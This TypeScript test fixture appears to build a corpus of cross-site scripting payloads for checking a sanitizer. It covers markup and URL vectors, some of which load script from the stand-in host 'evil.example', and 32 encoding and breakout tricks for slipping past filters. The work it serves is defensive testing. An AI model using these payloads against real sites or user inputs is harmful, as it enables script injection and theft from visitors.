import { isLong } from '@octavo/testing/cases';

/** Attacks of our own making. Each calls `breach()`, so that a page which defines it notices one that works. */
const markup: readonly string[] = [
  '<script>breach()</script>',
  '<script src=//evil.example/a.js></script>',
  '<script\n>breach()</script\n>',
  '<img src=x onerror=breach()>',
  '<img/src=x/onerror=breach()//',
  '<img src="x" onload="breach()" onerror="breach()">',
  '<svg onload=breach()>',
  '<svg><animate onbegin=breach() attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:breach()"><text y=20>x</text></a></svg>',
  '<svg><script href="data:,breach()"/></svg>',
  '<svg><foreignObject><body onload=breach()></foreignObject></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=breach()></style>',
  '<math href="javascript:breach()">x</math>',
  '<iframe srcdoc="<script>parent.breach()</script>"></iframe>',
  '<iframe src="javascript:parent.breach()"></iframe>',
  '<object data="javascript:breach()"></object>',
  '<embed src="javascript:breach()">',
  '<a href="javascript:breach()" autofocus onfocus=breach()>x</a>',
  '<body onload=breach()>',
  '<body onpageshow=breach()>',
  '<details open ontoggle=breach()>',
  '<input autofocus onfocus=breach()>',
  '<select autofocus onfocus=breach()>',
  '<textarea autofocus onfocus=breach()>',
  '<video><source onerror=breach()></video>',
  '<audio src=x onerror=breach()>',
  '<marquee onstart=breach()>x</marquee>',
  '<form><button formaction="javascript:breach()">x</button></form>',
  '<form action="javascript:breach()"><input type=submit></form>',
  '<meta http-equiv=refresh content="0;url=javascript:breach()">',
  '<base href="javascript:/a/">',
  '<link rel=stylesheet href="data:text/css,*{}" onload=breach()>',
  '<style>@import "javascript:breach()";</style>',
  '<style onload=breach()></style>',
  '<p style="animation:a" onanimationstart=breach()>x</p>',
  '<div style="background:url(javascript:breach())">x</div>',
  '<template><script>breach()</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=breach()>">',
  '<xmp><p title="</xmp><img src=x onerror=breach()>">',
  '<textarea><p title="</textarea><img src=x onerror=breach()>">',
  '<title><img title="</title><svg onload=breach()>">',
  '<!--><img src=x onerror=breach()>-->',
  '<!--[if gte IE 4]><script>breach()</script><![endif]-->',
  '<![CDATA[><img src=x onerror=breach()>]]>',
  '<?xml version="1.0"?><x xmlns="http://www.w3.org/1999/xhtml"><script>breach()</script></x>',
  '<custom-element onclick=breach() tabindex=1 autofocus onfocus=breach()>',
  '<p id=breach name=breach contenteditable onbeforeinput=breach()>x',
  '<table background="javascript:breach()"><tr><td>',
  '<button popovertarget=x onclick=breach()>x</button><div popover id=x onbeforetoggle=breach()>',
  '{{constructor.constructor("breach()")()}}',
  '${breach()}',
  '<%= breach() %>',
  '[x](javascript:breach())',
  '![x](x"onerror="breach())',
];

const urls: readonly string[] = [
  'javascript:breach()',
  'javascript://site.example/%0abreach()',
  'javascript:/*</title></style></script>*/breach()',
  'javascript:void(breach())//https://a.example',
  'javascript:breach()#https://www.youtube.com/watch?v=abcdefghijk',
  'vbscript:breach()',
  'livescript:breach()',
  'data:text/html,<script>breach()</script>',
  'data:text/html;base64,PHNjcmlwdD5icmVhY2goKTwvc2NyaXB0Pg==',
  'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="breach()"/>',
  'data:,breach()',
  'blob:https://a.example/b',
  'filesystem:https://a.example/b',
  'view-source:javascript:breach()',
  'feed:javascript:breach()',
  'jar:javascript:breach()!/',
  'x:javascript:breach()',
  'https:javascript:breach()',
  'https://a.example/"onmouseover="breach()',
  "https://a.example/'onmouseover='breach()",
  'https://a.example/`onmouseover=`breach()',
  'https://a.example/ onmouseover=breach() x=',
  'https://a.example/><script>breach()</script>',
  'https://www.youtube.com/watch?v=abcdefghijk"onload="breach()',
  'https://www.youtube.com/embed/../../a"onload="breach()',
  'https://youtu.be/javascript:',
  'https://player.vimeo.com/video/1"onload="breach()',
  'https://www.youtube.com:javascript@evil.example/watch?v=abcdefghijk',
  '//evil.example/a.js',
  '\\\\evil.example\\a.js',
  '/\\evil.example',
  'mailto:a@b.example?subject="><script>breach()</script>',
  'tel:"><script>breach()</script>',
];

type Disguise = (payload: string) => string;

const each =
  (change: (character: string, index: number) => string): Disguise =>
  (payload) =>
    Array.from(payload, change).join('');

const code = (character: string) => character.codePointAt(0) ?? 0;
const hex = (character: string) => code(character).toString(16);

export const disguises: readonly Disguise[] = [
  (payload) => payload,
  (payload) => payload.toUpperCase(),
  each((character, index) => (index % 2 === 0 ? character.toUpperCase() : character)),
  each((character) => `&#${code(character)};`),
  each((character) => `&#x${hex(character)}`),
  (payload) => payload.replaceAll(':', '&colon;').replaceAll('<', '&lt;').replaceAll('(', '&lpar;'),
  (payload) => encodeURIComponent(payload),
  each((character) => (/[<>:"']/.test(character) ? `\\u${hex(character).padStart(4, '0')}` : character)),
  each((character) => (/[<>:"']/.test(character) ? `\\x${hex(character)}` : character)),
  (payload) => `${payload.slice(0, 4)}\t${payload.slice(4)}`,
  (payload) => `${payload.slice(0, 4)}\r\n${payload.slice(4)}`,
  (payload) => `${payload.slice(0, 4)}\0${payload.slice(4)}`,
  each((character) => `${character}\0`),
  (payload) => `${payload.slice(0, 5)}\u000c${payload.slice(5)}`,
  (payload) => ` \u0001\u001f\t\n${payload}`,
  (payload) => `\u00a0\ufeff\u200b${payload}`,
  (payload) => `\u202e${payload}\u2028`,
  (payload) => `\ud83d${payload}\ude00`,
  (payload) => `"${payload}`,
  (payload) => `">${payload}`,
  (payload) => `'>${payload}`,
  (payload) => `\`>${payload}`,
  (payload) => `-->${payload}<!--`,
  (payload) => `]]>${payload}<![CDATA[`,
  (payload) => `</p></td></table></code></pre></figure></a>${payload}`,
  (payload) => `</script></style></title></textarea></noscript></iframe>${payload}`,
  (payload) => `" autofocus onfocus="breach()" x="${payload}`,
  (payload) => payload.replaceAll('<', '<<').replaceAll('>', '>>'),
  (payload) => payload.replaceAll('script', 'scr<script>ipt'),
  (payload) => payload.replaceAll('<', '\uff1c').replaceAll('>', '\uff1e'),
  (payload) => payload.replaceAll('<', '\u00c0\u00bc').replaceAll('>', '\u00c0\u00be'),
  (payload) => payload.replaceAll('<', '+ADw-').replaceAll('>', '+AD4-'),
];

export const kinds: readonly (readonly string[])[] = [markup, urls];

/** Each attack in each disguise, every text once. */
export const allPayloads: readonly string[] = [
  ...new Set(kinds.flat().flatMap((attack) => disguises.map((disguise) => disguise(attack)))),
];

/** Each attack as it is, and each disguise with three attacks of each kind that it hides, which take turns. */
const somePayloads = kinds.flatMap((attacks) => [
  ...attacks,
  ...disguises.flatMap((disguise, turn) => {
    const hidden = attacks.map(disguise).filter((payload, index) => payload !== attacks[index]);
    return [...hidden, ...hidden].slice((3 * turn) % (hidden.length || 1)).slice(0, 3);
  }),
]);

export const payloads: readonly string[] = isLong ? allPayloads : [...new Set(somePayloads)];
